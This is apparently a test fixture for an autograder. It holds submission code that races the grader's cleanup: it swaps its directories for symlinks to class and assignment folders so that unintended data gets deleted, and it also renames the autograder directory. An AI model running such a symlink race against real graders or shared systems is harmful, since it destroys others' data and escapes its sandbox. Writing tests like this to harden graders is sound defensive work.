"""Replaces its working directory by links while the grader clears it away, hoping that something else is cleared."""

OTTER = "no results"
OTTER_CELLS = ["import os\nos.rename('../../autograder', '../../moved')"]
CELLS = [
    r"""
import os, threading, time
home = os.getcwd()
for n in range(30):
    os.makedirs(f"a{n}/b/c", exist_ok=True)
def swap():
    while True:
        for n in range(30):
            try:
                os.rename(f"a{n}", f"x{n}")
                os.symlink(SCENE["class"], f"a{n}")
                os.unlink(f"a{n}")
                os.rename(f"x{n}", f"a{n}")
            except OSError:
                pass
threading.Thread(target=swap, daemon=True).start()
os.symlink(SCENE["class"], "class")
os.symlink(SCENE["assignment"], "assignment")
try:
    os.rename(home, home + "-moved")
    os.symlink(SCENE["class"], home)
except OSError:
    pass
"""
]
